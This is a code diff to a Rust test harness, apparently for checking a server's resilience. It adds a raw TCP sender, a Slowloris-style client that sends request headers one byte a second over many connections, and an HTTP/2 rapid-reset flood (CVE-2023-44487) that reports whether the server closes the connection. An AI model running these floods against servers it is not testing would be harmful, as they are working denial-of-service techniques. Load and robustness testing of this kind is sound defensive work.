@@ -69,6 +69,25 @@ enum Cmd {
         #[arg(long, default_value_t = 2000)]
         resets: usize,
     },
+    /// Raw bytes over TCP (`\r\n` escapes understood); prints what came back
+    /// and when the server closed.
+    Raw {
+        addr: SocketAddr,
+        #[arg(long)]
+        send: String,
+        /// Give up waiting after this long.
+        #[arg(long, default_value_t = 5000)]
+        wait_ms: u64,
+    },
+    /// Slow clients: `conns` connections that send a request head one byte a
+    /// second; reports how many the server closed, and when.
+    Slow {
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 20)]
+        conns: usize,
+        #[arg(long, default_value_t = 15)]
+        seconds: u64,
+    },
     /// Hostile DNS input against a resolver address; prints a [`Junk`] line.
     DnsJunk { addr: SocketAddr },
     /// Connect-and-close loop for a fixed time; prints one [`Bench`] line.
@@ -470,12 +489,115 @@ async fn http(
 }
 
 #[derive(serde::Serialize)]
+struct Raw {
+    /// First line of what the server sent, if anything.
+    first_line: Option<String>,
+    bytes: usize,
+    /// Milliseconds until the server closed (None: still open at the end).
+    closed_after_ms: Option<u64>,
+}
+
+async fn raw(addr: SocketAddr, send: &str, wait_ms: u64) -> Raw {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let payload = send.replace("\\r", "\r").replace("\\n", "\n");
+    let start = std::time::Instant::now();
+    let mut r = Raw {
+        first_line: None,
+        bytes: 0,
+        closed_after_ms: None,
+    };
+    let Ok(mut s) = TcpStream::connect(addr).await else {
+        return r;
+    };
+    let _ = s.write_all(payload.as_bytes()).await;
+    let mut buf = vec![0u8; 65536];
+    let mut got = Vec::new();
+    let deadline = start + Duration::from_millis(wait_ms);
+    loop {
+        let left = deadline.saturating_duration_since(std::time::Instant::now());
+        match tokio::time::timeout(left, s.read(&mut buf)).await {
+            Ok(Ok(0)) | Ok(Err(_)) => {
+                r.closed_after_ms = Some(start.elapsed().as_millis() as u64);
+                break;
+            }
+            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
+            Err(_) => break,
+        }
+    }
+    r.bytes = got.len();
+    r.first_line = String::from_utf8_lossy(&got)
+        .lines()
+        .next()
+        .map(String::from);
+    r
+}
+
+#[derive(serde::Serialize)]
+struct Slow {
+    opened: usize,
+    closed_by_server: usize,
+    /// Seconds until the last one was closed.
+    last_closed_after_s: Option<u64>,
+}
+
+async fn slow(addr: SocketAddr, conns: usize, seconds: u64) -> Slow {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let start = std::time::Instant::now();
+    let head = b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: ";
+    let mut tasks = Vec::new();
+    for _ in 0..conns {
+        tasks.push(tokio::spawn(async move {
+            let Ok(mut s) = TcpStream::connect(addr).await else {
+                return None;
+            };
+            let mut buf = [0u8; 1024];
+            for b in head.iter().chain(std::iter::repeat(&b'a')) {
+                if s.write_all(&[*b]).await.is_err() {
+                    return Some(Some(start.elapsed().as_secs()));
+                }
+                if let Ok(r) = tokio::time::timeout(Duration::from_secs(1), s.read(&mut buf)).await
+                {
+                    // Any answer (a 408 or a close) ends the connection.
+                    if matches!(r, Ok(0) | Err(_) | Ok(_)) {
+                        return Some(Some(start.elapsed().as_secs()));
+                    }
+                }
+                if start.elapsed().as_secs() >= seconds {
+                    return Some(None);
+                }
+            }
+            Some(None)
+        }));
+    }
+    let mut out = Slow {
+        opened: 0,
+        closed_by_server: 0,
+        last_closed_after_s: None,
+    };
+    for t in tasks {
+        match t.await.ok().flatten() {
+            Some(Some(at)) => {
+                out.opened += 1;
+                out.closed_by_server += 1;
+                out.last_closed_after_s = Some(out.last_closed_after_s.unwrap_or(0).max(at));
+            }
+            Some(None) => out.opened += 1,
+            None => {}
+        }
+    }
+    out
+}
+
+#[derive(serde::Serialize)]
 struct Flood {
     ok: usize,
     refused_or_failed: usize,
     resets_sent: usize,
     /// The connection was closed by the server (GOAWAY) during the resets.
     closed_by_server: bool,
+    /// How long the concurrent streams took (bounded concurrency makes this
+    /// a multiple of the backend's 200 ms).
+    streams_ms: u64,
 }
 
 async fn h2_flood(addr: SocketAddr, streams: usize, resets: usize) -> Flood {
@@ -484,54 +606,71 @@ async fn h2_flood(addr: SocketAddr, streams: usize, resets: usize) -> Flood {
         refused_or_failed: 0,
         resets_sent: 0,
         closed_by_server: false,
+        streams_ms: 0,
     };
-    let Ok(stream) = TcpStream::connect(addr).await else {
+    // Many concurrent slow requests: the server's SETTINGS cap how many run at once.
+    if let Ok(stream) = TcpStream::connect(addr).await {
+        if let Ok((s, conn)) = hyper::client::conn::http2::handshake(
+            hyper_util::rt::TokioExecutor::new(),
+            TokioIo::new(stream),
+        )
+        .await
+        {
+            tokio::spawn(conn);
+            let start = std::time::Instant::now();
+            let mut tasks = Vec::new();
+            for i in 0..streams {
+                let mut s = s.clone();
+                tasks.push(tokio::spawn(async move {
+                    let req = Request::get(format!("http://{addr}/slow/200?i={i}")).body(Empty::<Bytes>::new()).unwrap();
+                    matches!(tokio::time::timeout(Duration::from_secs(20), s.send_request(req)).await, Ok(Ok(r)) if r.status().is_success())
+                }));
+            }
+            for t in tasks {
+                if t.await.unwrap_or(false) {
+                    f.ok += 1;
+                } else {
+                    f.refused_or_failed += 1;
+                }
+            }
+            f.streams_ms = start.elapsed().as_millis() as u64;
+        }
+    }
+    // Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM, over and over,
+    // with the raw h2 client so every stream really is opened and cancelled.
+    let Ok(tcp) = TcpStream::connect(addr).await else {
         return f;
     };
-    let Ok((s, conn)) = hyper::client::conn::http2::handshake(
-        hyper_util::rt::TokioExecutor::new(),
-        TokioIo::new(stream),
-    )
-    .await
-    else {
+    let Ok((client, conn)) = h2::client::handshake(tcp).await else {
         return f;
     };
     let conn = tokio::spawn(conn);
-    let mut tasks = Vec::new();
-    for i in 0..streams {
-        let mut s = s.clone();
-        tasks.push(tokio::spawn(async move {
-            let req = Request::get(format!("http://{addr}/slow/200?i={i}"))
-                .body(Empty::<Bytes>::new())
-                .unwrap();
-            match tokio::time::timeout(Duration::from_secs(10), s.send_request(req)).await {
-                Ok(Ok(r)) => r.status().is_success(),
-                _ => false,
-            }
-        }));
-    }
-    for t in tasks {
-        if t.await.unwrap_or(false) {
-            f.ok += 1;
-        } else {
-            f.refused_or_failed += 1;
-        }
-    }
-    // Rapid reset: open a stream and cancel it at once, over and over.
+    let mut client = client;
     for i in 0..resets {
-        let mut s = s.clone();
-        let req = Request::get(format!("http://{addr}/slow/1000?r={i}"))
-            .body(Empty::<Bytes>::new())
+        let ready = match client.clone().ready().await {
+            Ok(r) => r,
+            Err(_) => {
+                f.closed_by_server = true;
+                break;
+            }
+        };
+        client = ready;
+        let req = http::Request::get(format!("http://{addr}/slow/1000?r={i}"))
+            .body(())
             .unwrap();
-        let fut = s.send_request(req);
-        let _ = tokio::time::timeout(Duration::from_micros(1), fut).await;
+        match client.send_request(req, true) {
+            Ok((resp, _)) => drop(resp), // cancels the stream: RST_STREAM(CANCEL)
+            Err(_) => {
+                f.closed_by_server = true;
+                break;
+            }
+        }
         f.resets_sent += 1;
-        if conn.is_finished() {
-            f.closed_by_server = true;
-            break;
+        if i % 64 == 0 {
+            tokio::task::yield_now().await;
         }
     }
-    tokio::time::sleep(Duration::from_millis(200)).await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
     f.closed_by_server |= conn.is_finished();
     f
 }
@@ -600,6 +739,26 @@ async fn main() -> Result<()> {
             println!(
                 "{}",
                 serde_json::to_string(&h2_flood(addr, streams, resets).await).unwrap()
+            );
+        }
+        Cmd::Raw {
+            addr,
+            send,
+            wait_ms,
+        } => {
+            println!(
+                "{}",
+                serde_json::to_string(&raw(addr, &send, wait_ms).await).unwrap()
+            );
+        }
+        Cmd::Slow {
+            addr,
+            conns,
+            seconds,
+        } => {
+            println!(
+                "{}",
+                serde_json::to_string(&slow(addr, conns, seconds).await).unwrap()
             );
         }
         Cmd::DnsJunk { addr } => {
